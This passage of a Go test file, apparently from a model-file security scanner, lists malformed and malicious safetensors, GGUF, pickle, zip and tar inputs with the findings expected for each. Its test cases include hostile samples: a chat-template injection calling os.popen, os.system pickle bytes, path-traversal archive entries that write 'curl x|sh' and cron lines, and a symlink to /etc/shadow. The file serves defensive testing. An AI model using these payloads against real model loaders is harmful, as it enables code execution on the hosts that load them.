package content_test

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"math/rand"
	"regexp"
	"strings"
	"testing"

	"github.com/pullgate/pullgate/test/modelcorpus"
	"github.com/pullgate/pullgate/verify/content"
)

type corpusCase struct {
	name      string
	opts      func(*content.Options)
	mediaType string
	title     string
	data      []byte
	format    string // expected Finding.Format ("" = accepted)
	reason    string // exact expected Finding.Reason
	newErr    bool   // the finding comes from NewInspector (descriptor only)
}

func scan(o *content.Options)     { o.Pickle.Mode = content.PickleScan }
func denyCode(o *content.Options) { o.DenyCodeLayers = true }

func stHeaderFile(header string, dataLen uint64) []byte {
	return modelcorpus.SafetensorsRaw(header, dataLen)
}

func withTrailing(b []byte, extra []byte) []byte { return append(append([]byte(nil), b...), extra...) }

func patchedGGUF(mut func(*modelcorpus.GGUFSpec)) []byte {
	s := modelcorpus.ValidGGUFSpec()
	mut(&s)
	return modelcorpus.GGUF(s)
}

func corpus(t testing.TB) []corpusCase {
	st := modelcorpus.Safetensors(modelcorpus.SmallModel(), map[string]string{"format": "pt"})
	stSize := func(b []byte) string { return fmt.Sprint(len(b)) }
	_ = stSize
	torchZip := modelcorpus.TorchZip(modelcorpus.SmallTorchModel())
	legacy := modelcorpus.LegacyTorch(modelcorpus.SmallTorchModel(), nil)
	ggufValid := modelcorpus.GGUF(modelcorpus.ValidGGUFSpec())

	crcEntries := modelcorpus.TorchZipEntries("archive", modelcorpus.SmallTorchModel(), nil)
	realCRC := crc32.ChecksumIEEE(crcEntries[len(crcEntries)-2].Data)
	crcEntries[len(crcEntries)-2].CRC = modelcorpus.U32(0xdeadbeef)

	dupEntries := modelcorpus.TorchZipEntries("archive", modelcorpus.SmallTorchModel(), nil)
	dupEntries = append(dupEntries, modelcorpus.ZipEntry{Name: "archive/data.pkl", Data: modelcorpus.OsSystemPickle()})

	nameMismatch := modelcorpus.TorchZipEntries("archive", modelcorpus.SmallTorchModel(), nil)
	nameMismatch[0].CentralName = "archive/evil.pkl"

	hidden := modelcorpus.TorchZipEntries("archive", modelcorpus.SmallTorchModel(), nil)
	hidden = append(hidden, modelcorpus.ZipEntry{Name: "archive/extra.pkl", Data: modelcorpus.OsSystemPickle(), OmitCentral: true})

	deflated := modelcorpus.TorchZipEntries("archive", modelcorpus.SmallTorchModel(), nil)
	deflated[0].Deflate = true
	deflated[0].AlignExtra = 0

	innerZip := modelcorpus.Zip(modelcorpus.ZipSpec{Entries: []modelcorpus.ZipEntry{{Name: "x.pkl", Data: modelcorpus.OsSystemPickle()}}})

	evalTorch := modelcorpus.Zip(modelcorpus.ZipSpec{Entries: modelcorpus.TorchZipEntries("archive", modelcorpus.SmallTorchModel(), modelcorpus.OsSystemPickle()), Zip64: true})

	legacyEvil := modelcorpus.LegacyTorch(modelcorpus.SmallTorchModel(), modelcorpus.OsSystemPickle())

	truncated := modelcorpus.StateDictPickle(modelcorpus.SmallTorchModel(), 2)
	truncated = truncated[:len(truncated)-7]

	two := []modelcorpus.STTensor{{Name: "a", DType: "F32", Shape: []uint64{4}}, {Name: "b", DType: "F32", Shape: []uint64{4}}}
	_ = two

	hugeStr := func(n uint64) modelcorpus.GGUFRaw {
		return modelcorpus.GGUFRaw(binary.LittleEndian.AppendUint64(nil, n))
	}

	return []corpusCase{
		// ---- accepted -----------------------------------------------------
		{name: "safetensors/valid", data: st, mediaType: "application/vnd.cncf.model.weight.v1.raw"},
		{name: "safetensors/empty header", data: stHeaderFile("{}", 0)},
		{name: "safetensors/tensor allowlist match", data: st, opts: func(o *content.Options) {
			o.TensorAllow = []*regexp.Regexp{regexp.MustCompile(`^base_model\.model\..*$`)}
		}},
		{name: "gguf/valid v3", data: ggufValid, mediaType: "application/vnd.ollama.image.model"},
		{name: "gguf/valid v2", data: patchedGGUF(func(s *modelcorpus.GGUFSpec) { s.Version = 2 }), mediaType: "application/vnd.docker.ai.gguf.v3"},
		{name: "gguf/no last padding", data: patchedGGUF(func(s *modelcorpus.GGUFSpec) { s.NoLastPad = true })},
		{name: "pickle/state dict proto 2 (scan)", opts: scan, data: modelcorpus.StateDictPickle(modelcorpus.SmallTorchModel(), 2)},
		{name: "pickle/state dict proto 4 (scan)", opts: scan, data: modelcorpus.StateDictPickle(modelcorpus.SmallTorchModel(), 4)},
		{name: "torchzip/valid (scan)", opts: scan, data: torchZip, mediaType: "application/vnd.cncf.model.weight.v1.raw"},
		{name: "torchzip/deflated data.pkl (scan)", opts: scan, data: modelcorpus.Zip(modelcorpus.ZipSpec{Entries: deflated})},
		{name: "legacy torch/valid (scan)", opts: scan, data: legacy},
		{name: "config/plain config.json", opts: denyCode, title: "config.json", mediaType: "application/vnd.cncf.model.weight.config.v1.raw",
			data: []byte(`{"architectures":["LlamaForCausalLM"],"hidden_size":4096,"rope_scaling":null,"x":[1.5e3,-2,true]}`)},
		{name: "text/license", mediaType: "application/vnd.ollama.image.license", data: []byte("MIT License\n\nPermission is hereby granted...\n")},

		// ---- safetensors attacks --------------------------------------------
		{name: "safetensors/oversized header", data: func() []byte {
			b := make([]byte, 64)
			binary.LittleEndian.PutUint64(b, 17<<20)
			b[8] = '{'
			return b
		}(), format: "safetensors", reason: "header length 17825792 exceeds the limit of 16777216 bytes"},
		{name: "safetensors/header beyond blob", data: func() []byte {
			b := []byte(`........{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}`)
			binary.LittleEndian.PutUint64(b, 1000)
			return b
		}(), format: "safetensors", reason: "header length 1000 exceeds the blob size 62"},
		{name: "safetensors/duplicate tensor name", data: stHeaderFile(`{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"w":{"dtype":"I32","shape":[4],"data_offsets":[0,16]}}`, 16),
			format: "safetensors", reason: `duplicate key "w" in the header`},
		{name: "safetensors/duplicate nested key", data: stHeaderFile(`{"w":{"dtype":"F32","dtype":"I32","shape":[4],"data_offsets":[0,16]}}`, 16),
			format: "safetensors", reason: `duplicate key "dtype" in tensor "w"`},
		{name: "safetensors/duplicate metadata key", data: stHeaderFile(`{"__metadata__":{"a":"1","a":"2"}}`, 0),
			format: "safetensors", reason: `duplicate key "a" in __metadata__`},
		{name: "safetensors/overlapping offsets", data: stHeaderFile(`{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"b":{"dtype":"F32","shape":[4],"data_offsets":[8,24]}}`, 24),
			format: "safetensors", reason: `tensor "b": data_offsets [8, 24] overlap the previous tensor ending at 16`},
		{name: "safetensors/aliased tensors", data: stHeaderFile(`{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"b":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}`, 16),
			format: "safetensors", reason: `tensor "b": data_offsets [0, 16] overlap the previous tensor ending at 16`},
		{name: "safetensors/gap", data: stHeaderFile(`{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"b":{"dtype":"F32","shape":[4],"data_offsets":[20,36]}}`, 36),
			format: "safetensors", reason: `tensor "b": data_offsets [20, 36] leave a gap of 4 bytes after offset 16 (data must be contiguous)`},
		{name: "safetensors/out of bounds offsets", data: stHeaderFile(`{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}`, 8),
			format: "safetensors", reason: "tensor data ends at byte 80, beyond the blob size 72 (out-of-bounds offsets)"},
		{name: "safetensors/trailing data", data: withTrailing(st, []byte("evil")),
			format: "safetensors", reason: "4 bytes of trailing data after the last tensor (polyglot or appended payload)"},
		{name: "safetensors/zip polyglot", data: withTrailing(st, innerZip),
			format: "safetensors", reason: fmt.Sprintf("%d bytes of trailing data after the last tensor (polyglot or appended payload)", len(innerZip))},
		{name: "safetensors/bad dtype", data: stHeaderFile(`{"w":{"dtype":"F128","shape":[1],"data_offsets":[0,16]}}`, 16),
			format: "safetensors", reason: `tensor "w": unknown dtype "F128"`},
		{name: "safetensors/shape size mismatch", data: stHeaderFile(`{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,8]}}`, 8),
			format: "safetensors", reason: `tensor "w": data_offsets [0, 8] span 8 bytes but shape [4] of F32 needs 16`},
		{name: "safetensors/non-string metadata", data: stHeaderFile(`{"__metadata__":{"a":1}}`, 0),
			format: "safetensors", reason: `__metadata__ value for "a" is not a string`},
		{name: "safetensors/unknown tensor field", data: stHeaderFile(`{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4],"extra":1}}`, 4),
			format: "safetensors", reason: `tensor "w": unknown field "extra"`},
		{name: "safetensors/negative offset", data: stHeaderFile(`{"w":{"dtype":"F32","shape":[1],"data_offsets":[-4,0]}}`, 4),
			format: "safetensors", reason: `tensor "w": data_offsets: negative number`},
		{name: "safetensors/shape overflow", data: stHeaderFile(`{"w":{"dtype":"F32","shape":[2,18446744073709551614],"data_offsets":[0,4]}}`, 4),
			format: "safetensors", reason: `tensor "w": shape: number 18446744073709551614 exceeds 2^48-1`},
		{name: "safetensors/leading whitespace", data: stHeaderFile(` {"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}`, 4),
			format: "safetensors", reason: "header does not start with '{' (byte 0x20)"},
		{name: "safetensors/long leading whitespace", data: stHeaderFile(strings.Repeat("\n", 5000)+`{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}`, 4),
			format: "safetensors", reason: "header does not start with '{' (byte 0x0a)"},
		{name: "safetensors/missing field", data: stHeaderFile(`{"w":{"dtype":"F32","data_offsets":[0,4]}}`, 4),
			format: "safetensors", reason: `tensor "w": missing field "shape"`},
		{name: "safetensors/float offset", data: stHeaderFile(`{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4.0]}}`, 4),
			format: "safetensors", reason: `tensor "w": data_offsets: number is not an integer`},
		{name: "safetensors/tensor allowlist miss", data: st, opts: func(o *content.Options) {
			o.TensorAllow = []*regexp.Regexp{regexp.MustCompile(`lora_[AB]\.weight$`)}
		}, format: "tensors", reason: `tensor "base_model.model.layers.0.mlp.scale" (safetensors) matches no allowed tensor name pattern`},

		// ---- GGUF attacks ---------------------------------------------------
		{name: "gguf/version 1", data: patchedGGUF(func(s *modelcorpus.GGUFSpec) { s.Version = 1 }),
			format: "gguf", reason: "GGUF version 1 is no longer supported"},
		{name: "gguf/version 4", data: patchedGGUF(func(s *modelcorpus.GGUFSpec) { s.Version = 4 }),
			format: "gguf", reason: "unsupported GGUF version 4 (want 2 or 3)"},
		{name: "gguf/tensor count overflow", data: patchedGGUF(func(s *modelcorpus.GGUFSpec) { s.TensorCount = modelcorpus.U64(^uint64(0)) }),
			format: "gguf", reason: "tensor count 18446744073709551615 exceeds the limit of 1048576"},
		{name: "gguf/kv count beyond file", data: patchedGGUF(func(s *modelcorpus.GGUFSpec) { s.KVCount = modelcorpus.U64(60000) }),
			format: "gguf", reason: fmt.Sprintf("tensor count 4 and key/value count 60000 cannot fit in the %d remaining bytes", len(ggufValid)-24)},
		{name: "gguf/huge string length", data: patchedGGUF(func(s *modelcorpus.GGUFSpec) {
			s.KVs = append([]modelcorpus.GGUFKV{{Key: "general.name", Type: modelcorpus.GGUFString, Value: hugeStr(1 << 40)}}, s.KVs...)
		}), format: "gguf", reason: `metadata key "general.name": string length 1099511627776 exceeds the limit of 16777216 bytes`},
		{name: "gguf/string beyond file", data: patchedGGUF(func(s *modelcorpus.GGUFSpec) {
			s.KVs = append([]modelcorpus.GGUFKV{{Key: "general.name", Type: modelcorpus.GGUFString, Value: hugeStr(1 << 20)}}, s.KVs...)
		}), format: "gguf", reason: fmt.Sprintf(`metadata key "general.name": string length 1048576 exceeds the %d remaining bytes`, len(ggufValid)-24)},
		{name: "gguf/duplicate key", data: patchedGGUF(func(s *modelcorpus.GGUFSpec) {
			s.KVs = append(s.KVs, modelcorpus.GGUFKV{Key: "general.architecture", Type: modelcorpus.GGUFString, Value: "llama"})
		}), format: "gguf", reason: `duplicate metadata key "general.architecture"`},
		{name: "gguf/misaligned offset", data: patchedGGUF(func(s *modelcorpus.GGUFSpec) { s.Tensors[1].Offset = modelcorpus.U64(4) }),
			format: "gguf", reason: `tensor "blk.0.attn_norm.weight" offset 4 is not a multiple of the alignment 32`},
		{name: "gguf/overlapping offset", data: patchedGGUF(func(s *modelcorpus.GGUFSpec) { s.Tensors[1].Offset = modelcorpus.U64(0) }),
			format: "gguf", reason: `tensor "blk.0.attn_norm.weight" offset 0, expected 288 (tensors must be contiguous, in order, without overlap)`},
		{name: "gguf/chat template attribute walk", data: patchedGGUF(func(s *modelcorpus.GGUFSpec) {
			s.KVs[7].Value = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
		}), format: "gguf", reason: `tokenizer.chat_template: attribute "__init__" starts with "_" (reaches Python internals) at line 1, column 10 (template injection; a chat template may only read the values it is given)`},
		{name: "gguf/chat template attr filter", data: patchedGGUF(func(s *modelcorpus.GGUFSpec) {
			s.KVs[7].Value = "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}"
		}), format: "gguf", reason: `tokenizer.chat_template: "attr" filter name "__class__" starts with "_" (reaches Python internals) at line 1, column 7 (template injection; a chat template may only read the values it is given)`},
		{name: "gguf/nested array", data: patchedGGUF(func(s *modelcorpus.GGUFSpec) {
			s.KVs = append(s.KVs, modelcorpus.GGUFKV{Key: "x.nested", Type: modelcorpus.GGUFArray, Value: modelcorpus.GGUFRaw{9, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0}})
		}), format: "gguf", reason: `metadata key "x.nested": nested arrays are not allowed`},
		{name: "gguf/removed ggml type", data: patchedGGUF(func(s *modelcorpus.GGUFSpec) { s.Tensors[0].Type = 4 }),
			format: "gguf", reason: `tensor "token_embd.weight" has invalid ggml type 4`},
		{name: "gguf/scores typed UINT8", data: patchedGGUF(func(s *modelcorpus.GGUFSpec) {
			s.KVs[4].Value = modelcorpus.GGUFArrayOf{Elem: modelcorpus.GGUFUint8, Values: []any{uint8(1), uint8(2), uint8(3), uint8(4)}}
		}), format: "gguf", reason: `metadata key "tokenizer.ggml.scores" is an array of UINT8, want FLOAT32`},
		{name: "gguf/trailing data", data: withTrailing(ggufValid, make([]byte, 100)),
			format: "gguf", reason: "100 bytes of trailing data after the tensor data"},
		{name: "gguf/duplicate tensor name", data: patchedGGUF(func(s *modelcorpus.GGUFSpec) { s.Tensors[3].Name = "blk.0.attn_norm.weight" }),
			format: "gguf", reason: `duplicate tensor name "blk.0.attn_norm.weight"`},
		{name: "gguf/bad alignment", data: patchedGGUF(func(s *modelcorpus.GGUFSpec) { s.KVs[1].Value = uint32(24) }),
			format: "gguf", reason: "general.alignment 24 is not a non-zero power of two"},
		{name: "gguf/truncated tensor data", data: ggufValid[:len(ggufValid)-40],
			format: "gguf", reason: fmt.Sprintf(`tensor "output_norm.weight" (offset 384, 6 bytes) extends beyond the file size %d`, len(ggufValid)-40)},
		{name: "gguf/bool not 0 or 1", data: patchedGGUF(func(s *modelcorpus.GGUFSpec) { s.KVs[6].Value = modelcorpus.GGUFRaw{7} }),
			format: "gguf", reason: `metadata key "tokenizer.ggml.add_bos_token": BOOL value 7 is not 0 or 1`},

		// ---- pickle attacks (scan mode unless stated) -----------------------
		{name: "pickle/os.system", opts: scan, data: modelcorpus.OsSystemPickle(),
			format: "pickle", reason: "GLOBAL imports posix.system, which is not in the allowlist (content.formats.pickle.allow)"},
		{name: "pickle/builtins.eval proto 0", opts: scan, data: modelcorpus.BuiltinsEvalPickle(),
			format: "pickle", reason: "GLOBAL imports __builtin__.eval, which is not in the allowlist (content.formats.pickle.allow)"},
		{name: "pickle/subprocess.Popen", opts: scan, data: modelcorpus.SubprocessPopenPickle(),
			format: "pickle", reason: "STACK_GLOBAL imports subprocess.Popen, which is not in the allowlist (content.formats.pickle.allow)"},
		{name: "pickle/STACK_GLOBAL via memo", opts: scan, data: modelcorpus.StackGlobalViaMemoPickle(),
			format: "pickle", reason: "STACK_GLOBAL imports os.system, which is not in the allowlist (content.formats.pickle.allow)"},
		{name: "pickle/STACK_GLOBAL non-literal", opts: scan, data: modelcorpus.NonLiteralStackGlobalPickle(),
			format: "pickle", reason: "STACK_GLOBAL with a module or name that is not a literal string (cannot be resolved statically)"},
		{name: "pickle/pkgutil.resolve_name", opts: scan, data: modelcorpus.PkgutilResolveNamePickle(),
			format: "pickle", reason: "STACK_GLOBAL imports pkgutil.resolve_name, which is not in the allowlist (content.formats.pickle.allow)"},
		{name: "pickle/broken, payload first", opts: scan, data: modelcorpus.BrokenPayloadFirstPickle(),
			format: "pickle", reason: "GLOBAL imports posix.system, which is not in the allowlist (content.formats.pickle.allow)"},
		{name: "pickle/broken", opts: scan, data: modelcorpus.BrokenPickle(),
			format: "pickle", reason: "invalid pickle opcode 0xff"},
		{name: "pickle/truncated", opts: scan, data: truncated,
			format: "pickle", reason: "truncated pickle: stream ends before the STOP opcode"},
		{name: "pickle/REDUCE on a string", opts: scan, data: modelcorpus.ReduceNonGlobalPickle(),
			format: "pickle", reason: "REDUCE calls a value that is not an allowlisted global (cannot be resolved statically)"},
		{name: "pickle/EXT1", opts: scan, data: modelcorpus.ExtOpcodePickle(),
			format: "pickle", reason: "EXT1 opcode (copyreg extension registry) cannot be resolved statically"},
		{name: "pickle/huge string", opts: scan, data: modelcorpus.HugeStringPickle(),
			format: "pickle", reason: "BINUNICODE8 of 1099511627776 bytes exceeds the limit of 16777216"},
		{name: "pickle/deep stack", opts: func(o *content.Options) { scan(o); o.Pickle.MaxStack = 100 }, data: modelcorpus.DeepStackPickle(200),
			format: "pickle", reason: "stack depth exceeds 100"},
		{name: "pickle/trailing data", opts: scan, data: withTrailing(modelcorpus.StateDictPickle(modelcorpus.SmallTorchModel(), 2), []byte("cposix\nsystem\n")),
			format: "pickle", reason: "14 bytes of trailing data after the pickle STOP opcode"},
		{name: "pickle/deny mode", data: modelcorpus.StateDictPickle(modelcorpus.SmallTorchModel(), 2),
			format: "pickle", reason: "content is a pickle; pickle content is denied by policy (pickle: deny); publish safetensors instead"},
		{name: "pickle/proto 1 without header (deny)", mediaType: "application/vnd.oci.image.layer.v1.tar",
			data:   []byte("(lp0\nccollections\nOrderedDict\np1\na."),
			format: "pickle", reason: "content parses as a pickle (protocol 0/1, no header); pickle content is denied by policy (pickle: deny)"},
		{name: "pickle/proto 1 without header hides os.system", opts: scan, mediaType: "application/vnd.oci.image.layer.v1.tar",
			data:   []byte("(lp0\ncos\nsystem\np1\na."),
			format: "pickle", reason: "content parses as a pickle: GLOBAL imports os.system, which is not in the allowlist (content.formats.pickle.allow)"},
		{name: "text/starts like a trivial pickle", mediaType: "application/vnd.cncf.model.doc.v1.raw", data: []byte("N.B. this model is a research preview.\n")},
		{name: "zip/deflate bomb", opts: func(o *content.Options) { scan(o); o.Zip.MaxInflatedMember = 1 << 20 },
			data:   modelcorpus.Zip(modelcorpus.ZipSpec{Entries: []modelcorpus.ZipEntry{{Name: "zeros", Data: make([]byte, 1<<20+1), Deflate: true}}}),
			format: "zip", reason: `deflated entry "zeros" inflates to 1048577 bytes, more than the limit of 1048576`},
		{name: "text/weight layer carrying a protocol 0 pickle", mediaType: "application/vnd.cncf.model.weight.v1.raw", data: []byte("(lp0\ncos\nsystem\np1\na."),
			format: "pickle", reason: "content parses as a pickle: GLOBAL imports os.system, which is not in the allowlist (content.formats.pickle.allow)"},
		{name: "pickle/7z-wrapped", opts: scan, data: modelcorpus.SevenZipWrap(modelcorpus.OsSystemPickle()), mediaType: "application/vnd.cncf.model.weight.v1.raw",
			format: "mediatype", reason: "declared application/vnd.cncf.model.weight.v1.raw but bytes are a 7z archive"},
		{name: "pickle/7z-wrapped, no media type", opts: scan, data: modelcorpus.SevenZipWrap(modelcorpus.OsSystemPickle()),
			format: "7z", reason: "7z archive wraps the layer content; archives are not inspected and are denied unless the rule allows archives"},
		{name: "legacy torch/deny mode", data: legacy,
			format: "torch-legacy", reason: "content is a legacy torch file (concatenated pickles); pickle content is denied by policy (pickle: deny); publish safetensors instead"},
		{name: "legacy torch/os.system object", opts: scan, data: legacyEvil,
			format: "torch-legacy", reason: "GLOBAL imports posix.system, which is not in the allowlist (content.formats.pickle.allow)"},
		{name: "legacy torch/trailing data", opts: scan, data: withTrailing(legacy, []byte{1, 2, 3}),
			format: "torch-legacy", reason: "3 bytes of trailing data after the last storage"},

		// ---- zip attacks ----------------------------------------------------
		{name: "zip/dot-dot path", opts: scan, data: modelcorpus.Zip(modelcorpus.ZipSpec{Entries: []modelcorpus.ZipEntry{{Name: "../../etc/cron.d/x", Data: []byte("* * * * * root id\n")}}}),
			format: "zip", reason: `entry "../../etc/cron.d/x" escapes the archive root (..)`},
		{name: "zip/absolute path", opts: scan, data: modelcorpus.Zip(modelcorpus.ZipSpec{Entries: []modelcorpus.ZipEntry{{Name: "/etc/passwd", Data: []byte("x")}}}),
			format: "zip", reason: `entry "/etc/passwd" has an absolute path`},
		{name: "zip/backslash path", opts: scan, data: modelcorpus.Zip(modelcorpus.ZipSpec{Entries: []modelcorpus.ZipEntry{{Name: `..\evil.dll`, Data: []byte("x")}}}),
			format: "zip", reason: `entry "..\\evil.dll" contains a backslash`},
		{name: "zip/duplicate entries", opts: scan, data: modelcorpus.Zip(modelcorpus.ZipSpec{Entries: dupEntries, Zip64: true}),
			format: "zip", reason: `duplicate entry name "archive/data.pkl"`},
		{name: "zip/CRC mismatch", opts: scan, data: modelcorpus.Zip(modelcorpus.ZipSpec{Entries: crcEntries, Zip64: true}),
			format: "zip", reason: fmt.Sprintf(`entry "archive/version" CRC-32 mismatch: header 0xdeadbeef, data 0x%08x`, realCRC)},
		{name: "zip/prepended data", opts: scan, data: modelcorpus.Zip(modelcorpus.ZipSpec{Entries: modelcorpus.TorchZipEntries("archive", modelcorpus.SmallTorchModel(), nil), Prepend: []byte("#!/bin/sh\nexit 0\n")}),
			format: "zip", reason: "17 bytes of data before the first zip local file header (prepended data or polyglot)"},
		{name: "zip/large prepended data", opts: func(o *content.Options) { scan(o); o.AllowUnknown = true }, mediaType: "application/vnd.cncf.model.weight.v1.raw",
			data:   modelcorpus.Zip(modelcorpus.ZipSpec{Entries: modelcorpus.TorchZipEntries("archive", modelcorpus.SmallTorchModel(), nil), Prepend: bytes.Repeat([]byte{0xEE}, 10000)}),
			format: "zip", reason: "a zip archive ends this blob but does not start it (prepended data or polyglot)"},
		{name: "zip/prepended data longer than the end-record window", opts: func(o *content.Options) { scan(o); o.AllowUnknown = true }, mediaType: "application/vnd.cncf.model.weight.v1.raw",
			data:   modelcorpus.Zip(modelcorpus.ZipSpec{Entries: modelcorpus.TorchZipEntries("archive", modelcorpus.SmallTorchModel(), nil), Prepend: bytes.Repeat([]byte{0xEE}, 300000)}),
			format: "zip", reason: "a zip archive ends this blob but does not start it (prepended data or polyglot)"},
		{name: "zip/trailing data", opts: scan, data: withTrailing(torchZip, []byte("tail")),
			format: "zip", reason: "4 bytes of trailing data after the end of central directory record"},
		{name: "zip/nested zip", opts: scan, data: modelcorpus.Zip(modelcorpus.ZipSpec{Entries: []modelcorpus.ZipEntry{{Name: "weights/inner.bin", Data: innerZip}}}),
			format: "zip", reason: `entry "weights/inner.bin" is a nested zip archive`},
		{name: "zip/nested 7z by name", opts: scan, data: modelcorpus.Zip(modelcorpus.ZipSpec{Entries: []modelcorpus.ZipEntry{{Name: "model.7z", Data: []byte("not really")}}}),
			format: "zip", reason: `entry "model.7z" is a nested archive (.7z)`},
		{name: "zip/central name mismatch", opts: scan, data: modelcorpus.Zip(modelcorpus.ZipSpec{Entries: nameMismatch, Zip64: true}),
			format: "zip", reason: `central directory name "archive/evil.pkl" disagrees with local header name "archive/data.pkl"`},
		{name: "zip/hidden entry", opts: scan, data: modelcorpus.Zip(modelcorpus.ZipSpec{Entries: hidden}),
			format: "pickle", reason: `zip member "archive/extra.pkl": GLOBAL imports posix.system, which is not in the allowlist (content.formats.pickle.allow)`},
		{name: "zip/hidden benign entry", opts: scan, data: modelcorpus.Zip(modelcorpus.ZipSpec{Entries: []modelcorpus.ZipEntry{{Name: "a", Data: []byte("1")}, {Name: "b", Data: []byte("2"), OmitCentral: true}}}),
			format: "zip", reason: `local entry "b" is missing from the central directory (hidden entry)`},
		{name: "zip/encrypted", opts: scan, data: modelcorpus.Zip(modelcorpus.ZipSpec{Entries: []modelcorpus.ZipEntry{{Name: "a", Data: []byte("1"), Flags: 1}}}),
			format: "zip", reason: `entry "a" is encrypted (general purpose flag bit 0): an encrypted member cannot be inspected. Loaders disagree on the bit (torch.load's zip reader, miniz, honours it only in the central directory and ignores it in the local header), and no content option admits encrypted members: only a rule without a content: section serves this blob`},
		{name: "zip/data descriptor flag without descriptor", opts: scan, data: modelcorpus.Zip(modelcorpus.ZipSpec{Entries: []modelcorpus.ZipEntry{{Name: "a", Data: []byte("1"), Flags: 8}}}),
			format: "zip", reason: `entry "a" sets general purpose flag 0x0008 but no data descriptor follows its data`},
		{name: "torchzip/storage size mismatch", opts: scan, data: func() []byte {
			es := modelcorpus.TorchZipEntries("archive", modelcorpus.SmallTorchModel(), nil)
			es[5].Data = es[5].Data[:8] // data/1: FloatStorage of 4 elements needs 16 bytes
			return modelcorpus.Zip(modelcorpus.ZipSpec{Entries: es, Zip64: true})
		}(), format: "zip", reason: `storage record "archive/data/1" has 8 bytes, data.pkl declares 4 elements of torch.FloatStorage`},
		{name: "torchzip/unreferenced storage", opts: scan, data: func() []byte {
			es := modelcorpus.TorchZipEntries("archive", modelcorpus.SmallTorchModel(), nil)
			es = append(es, modelcorpus.ZipEntry{Name: "archive/data/99", Data: []byte("hidden payload")})
			return modelcorpus.Zip(modelcorpus.ZipSpec{Entries: es, Zip64: true})
		}(), format: "zip", reason: `storage record "archive/data/99" is not referenced by archive/data.pkl`},
		{name: "torchzip/missing storage", opts: scan, data: func() []byte {
			es := modelcorpus.TorchZipEntries("archive", modelcorpus.SmallTorchModel(), nil)
			es = append(es[:4], es[5:]...) // drop data/0
			return modelcorpus.Zip(modelcorpus.ZipSpec{Entries: es, Zip64: true})
		}(), format: "zip", reason: `data.pkl references storage "0" but archive/data/0 is missing`},
		{name: "torchzip/deny mode", data: torchZip,
			format: "pickle", reason: `zip member "archive/data.pkl" is a pickle; pickle content is denied by policy (pickle: deny)`},
		{name: "torchzip/os.system data.pkl", opts: scan, data: evalTorch,
			format: "pickle", reason: `zip member "archive/data.pkl": GLOBAL imports posix.system, which is not in the allowlist (content.formats.pickle.allow)`},

		// ---- tar layers -----------------------------------------------------
		{name: "tar/modelpack weight tar", mediaType: "application/vnd.cncf.model.weight.v1.tar", opts: denyCode, data: modelcorpus.Tar(modelcorpus.ModelTar(), nil)},
		{name: "tar/oras directory tar", mediaType: "application/vnd.oci.image.layer.v1.tar", data: modelcorpus.Tar(modelcorpus.ModelTar(), nil)},
		{name: "tar/dot-dot path", mediaType: "application/vnd.cncf.model.weight.v1.tar",
			data:   modelcorpus.Tar([]modelcorpus.TarEntry{{Name: "../../root/.bashrc", Data: []byte("curl x|sh\n")}}, nil),
			format: "tar", reason: `entry "../../root/.bashrc" escapes the archive root (..)`},
		{name: "tar/symlink", mediaType: "application/vnd.cncf.model.weight.v1.tar",
			data:   modelcorpus.Tar([]modelcorpus.TarEntry{{Name: "model.safetensors", Type: '2', Linkname: "/etc/shadow"}}, nil),
			format: "tar", reason: `entry "model.safetensors" is a link; links are not accepted in model layers`},
		{name: "tar/setuid", mediaType: "application/vnd.cncf.model.weight.v1.tar",
			data:   modelcorpus.Tar([]modelcorpus.TarEntry{{Name: "bin/run", Data: []byte("x"), Mode: 0o4755}}, nil),
			format: "tar", reason: `entry "bin/run" has setuid/setgid bits`},
		{name: "tar/duplicate entries", mediaType: "application/vnd.cncf.model.weight.v1.tar",
			data:   modelcorpus.Tar([]modelcorpus.TarEntry{{Name: "w.safetensors", Data: st}, {Name: "w.safetensors", Data: modelcorpus.OsSystemPickle()}}, nil),
			format: "tar", reason: `duplicate entry name "w.safetensors"`},
		{name: "tar/pickle member (deny)", mediaType: "application/vnd.cncf.model.weight.v1.tar",
			data:   modelcorpus.Tar([]modelcorpus.TarEntry{{Name: "model/pytorch_model.bin", Data: torchZip}}, nil),
			format: "pickle", reason: `tar member "model/pytorch_model.bin": zip member "archive/data.pkl" is a pickle; pickle content is denied by policy (pickle: deny)`},
		{name: "tar/bad safetensors member", mediaType: "application/vnd.kitops.modelkit.model.v1.tar",
			data:   modelcorpus.Tar([]modelcorpus.TarEntry{{Name: "m.safetensors", Data: withTrailing(st, []byte("evil"))}}, nil),
			format: "safetensors", reason: `tar member "m.safetensors": 4 bytes of trailing data after the last tensor (polyglot or appended payload)`},
		{name: "tar/code member", mediaType: "application/vnd.cncf.model.weight.v1.tar", opts: denyCode,
			data:   modelcorpus.Tar([]modelcorpus.TarEntry{{Name: "modeling_evil.py", Data: []byte("import os\n")}}, nil),
			format: "tar", reason: `entry "modeling_evil.py" is code (.py) and is denied (denyCodeLayers)`},
		{name: "tar/trailing garbage", mediaType: "application/vnd.cncf.model.weight.v1.tar",
			data:   modelcorpus.Tar(modelcorpus.ModelTar(), []byte("PK\x03\x04 appended")),
			format: "tar", reason: "non-zero data after the end-of-archive marker"},
		{name: "tar/in raw weight layer", mediaType: "application/vnd.cncf.model.weight.v1.raw",
			data:   modelcorpus.Tar(modelcorpus.ModelTar(), nil),
			format: "mediatype", reason: "declared application/vnd.cncf.model.weight.v1.raw but bytes are a tar archive (and not a NeMo archive: no model_config.yaml at its root)"},
		{name: "tar/7z in ORAS tar-typed layer", mediaType: "application/vnd.oci.image.layer.v1.tar", opts: scan,
			data:   modelcorpus.SevenZipWrap(modelcorpus.OsSystemPickle()),
			format: "7z", reason: "7z archive wraps the layer content; archives are not inspected and are denied unless the rule allows archives"},

